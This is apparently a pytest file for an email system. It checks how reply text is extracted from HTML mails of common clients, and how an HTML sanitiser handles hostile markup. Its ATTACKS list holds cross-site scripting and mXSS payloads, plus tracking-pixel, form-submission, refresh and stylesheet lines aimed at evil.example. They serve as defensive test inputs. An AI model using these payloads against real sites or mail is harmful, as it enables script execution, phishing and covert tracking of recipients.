"""HTML mails of the clients that people use: their new text, and what is safe to show of them."""

from __future__ import annotations

import re

import pytest

from channels.mail.html import sanitise, text_of
from channels.mail.quotes import new_text

GMAIL_ATTR = '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">Den mån 21 sep. 2026 kl 15:12 skrev Kundservice &lt;<a href="mailto:k@support.example">k@support.example</a>&gt;:<br></div>'
OUTLOOK_HEAD = (
    '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal"><b>{}:</b> K &lt;k@support.example&gt;<br>'
    "<b>{}:</b> 21 september 2026 15:12<br><b>{}:</b> Eva<br><b>{}:</b> Laddaren</p></div><p class=MsoNormal>Hej Eva, gammalt</p>"
)
REPLIES = {
    "gmail": (f'<div dir="ltr">Nu laddar den!<div><br></div><div>Mvh</div><div>Eva</div></div><br>{GMAIL_ATTR}<blockquote class="gmail_quote" style="border-left:1px solid">gammalt</blockquote></div>', "Nu laddar den! Mvh Eva"),
    "gmail inline": (f'{GMAIL_ATTR}<blockquote class="gmail_quote">Vilken laddare?</blockquote><div>24352</div><blockquote class="gmail_quote">Vilken bil?</blockquote><div>En Kona</div></div>', "24352 En Kona"),
    "gmail signature": (f'<div dir="ltr">Ja tack<br clear="all"><div><div class="gmail_signature">Eva Hedlund<br>070-174 06 42</div></div></div>{GMAIL_ATTR}<blockquote class="gmail_quote">gammalt</blockquote></div>', "Ja tack"),
    "gmail indent is no quote": ('<div dir="ltr">Felen:<blockquote style="margin:0 0 0 40px;border:none;padding:0px">24352 är död</blockquote></div>', "Felen: 24352 är död"),
    "outlook sv": ('<div class="WordSection1"><p class="MsoNormal">Det går bra.</p>' + OUTLOOK_HEAD.format("Från", "Skickat", "Till", "Ämne") + "</div>", "Det går bra."),
    "outlook in another language": ('<p class="MsoNormal">Ok.</p>' + OUTLOOK_HEAD.format("Feladó", "Elküldve", "Címzett", "Tárgy"), "Ok."),
    "outlook web": ('<div>Okej</div><div id="appendonsend"></div><hr><div id="divRplyFwdMsg"><b>Od:</b> K<br><b>Wysłano:</b> 21<br></div><div>gammalt</div>', "Okej"),
    "apple": ('<html><body>Funkar!<br id="lineBreakAtBeginningOfSignature"><div dir="ltr">Skickat från min iPhone</div><div dir="ltr"><br><blockquote type="cite">21 sep. 2026 kl. 15:12 skrev K &lt;k@support.example&gt;:<br><br></blockquote></div><blockquote type="cite"><div>gammalt</div></blockquote></body></html>', "Funkar!"),
    "apple mac": ('<div>Bra.</div><div><br><blockquote type="cite"><div>21 sep. 2026 kl. 15:12 skrev K &lt;k@x.example&gt;:</div><div>gammalt</div></blockquote></div>', "Bra."),
    "thunderbird": ('<div class="moz-cite-prefix">Am 21.09.26 um 15:12 schrieb K:<br></div><blockquote type="cite" cite="mid:1@x"><p>alt</p></blockquote><p>Neu hier.</p><pre class="moz-signature">-- <br>Henning</pre>', "Neu hier."),
    "yahoo": ('<div>Ja.</div><div id="yahoo_quoted_1" class="yahoo_quoted"><div>On Monday, 21 September 2026 at 15:12, K &lt;k@x.example&gt; wrote:</div><div>old</div></div>', "Ja."),
    "proton": ('<div>Good.</div><div class="protonmail_signature_block"><div>Sent with Proton Mail</div></div><div class="protonmail_quote">On Monday, September 21st, 2026 at 15:12, K &lt;k@x.example&gt; wrote:<br><blockquote class="protonmail_quote" type="cite">old</blockquote></div>', "Good."),
    "samsung": ("<div>Still dead</div><div><br></div><div><div>-------- Original message --------</div><div>From: K &lt;k@x.example&gt; </div><div>Date: 21/09/2026 15:12 (GMT+01:00) </div><div>To: Eva </div><div>Subject: Re </div></div><div>old</div>", "Still dead"),
    "outlook mobile": ('<div>Ok!</div><div class="ms-outlook-mobile-signature">Hämta <a href="x">Outlook för iOS</a></div><hr><div id="divRplyFwdMsg"><b>Från:</b> K<br><b>Skickat:</b> 21<br><b>Till:</b> Eva<br><b>Ämne:</b> x</div>old', "Ok!"),
    "bare blockquote below an attribution": ("<p>Ja</p><p>Den 21 sep. 2026 kl. 15:12 skrev K &lt;k@x.example&gt;:</p><blockquote>gammalt</blockquote><p>nytt</p>", "Ja nytt"),
    "all in a signature": ('<div class="gmail_signature">Hjälp, kabeln sitter fast!</div>', "Hjälp, kabeln sitter fast!"),
    "table layout": ("<table><tr><td><p>Hej</p></td></tr><tr><td>Laddaren är död</td></tr></table>", "Hej Laddaren är död"),
    "lists": ("<ol><li>ett<li>två</ol><ul><li>tre</ul>", "1. ett 2. två - tre"),
    "entities": ("<p>Sk&auml;ms&nbsp;&#229; &lt;24352&gt;</p>", "Skäms å <24352>"),
    "unclosed": ("<div><p>Hej<b>du<div>laddaren", "Hej du laddaren"),
    "no html at all": ("bara text", "bara text"),
    "declared": ('<?xml version="1.0" encoding="utf-8"?><html><body>å</body></html>', "å"),
    "comments": ("a<!-- ignore -->b<!--[if mso]>c<![endif]-->d", "abd"),
}  # fmt: skip


@pytest.mark.parametrize("name", REPLIES)
def test_new_text_of_html(name: str) -> None:
    source, new = REPLIES[name]
    got = new_text(text_of(source), "Eva Hedlund").split()
    assert "".join(got) == "".join(new.split())


@pytest.mark.parametrize(
    "source",
    [
        "",
        " ",
        "<",
        "<>",
        "<!--",
        "<table>" * 3000,
        "<div>" * 20_000,
        "<blockquote type=cite>" * 3000 + "x",
        "<ul><li>" * 2000,
        "&#0;&#xD800;&#x110000;",
        "<a " + "b=" * 50_000 + ">x",
        "\ue0020\ue003 x",
        "<td>" * 5000,
        "<b><i>" * 9000,
    ],
)
def test_strange_documents_have_an_answer(source: str) -> None:
    assert isinstance(text_of(source), str)


def test_marks_in_a_document_are_not_ours() -> None:
    assert new_text(text_of("<p>a</p><p>\ue000</p><p>b \ue0020\ue003</p>")).split() == ["a", "b", "0"]


ATTACKS = """<script>alert(1)</script>
<img src=x onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="data:text/html,x">x</a>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<form action="https://evil.example"><input name=p><button>x</button></form>
<style>@import url(https://evil.example/x.css); p{position:fixed}</style>
<p style="position:fixed;background:url(https://evil.example/x)">x</p>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>
<iframe src="https://evil.example"></iframe>
<object data="https://evil.example"></object>
<embed src="https://evil.example">
<img src="https://evil.example/pixel.gif">
<img srcset="https://evil.example/a 1x" src="http://evil.example/b">
<video poster="https://evil.example/p"><source src="https://evil.example/v"></video>
<link rel=stylesheet href="https://evil.example/x.css">
<body background="https://evil.example/x" onload=alert(1)>
<td background="https://evil.example/x">x</td>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><img src=x onerror=alert(1)></title>
<!--><img src=x onerror=alert(1)>-->""".split("\n")


@pytest.mark.parametrize("attack", ATTACKS)
def test_b58_nothing_runs_loads_or_submits(attack: str) -> None:
    shown = sanitise(f"<p>text</p>{attack}<p>more</p>").lower()
    assert not re.search(
        r"<(script|style|meta|base|form|input|button|iframe|object|embed|svg|math|link|video|source|body)\b", shown
    )
    assert not re.search(r"<[^>]*\s(on\w+|style|background|srcset|poster|action)\s*=", shown)
    assert not re.search(r"(src|href)\s*=\s*[\"']?\s*(javascript|data|vbscript)", shown)
    assert not re.search(r"<img[^>]*src=", shown)
    assert "text" in shown


def test_links_and_own_pictures_stay() -> None:
    shown = sanitise('<a href="https://x.example/">x</a><img src="cid:1@x" alt="a">')
    assert 'href="https://x.example/"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown
    assert 'src="cid:1@x"' in shown
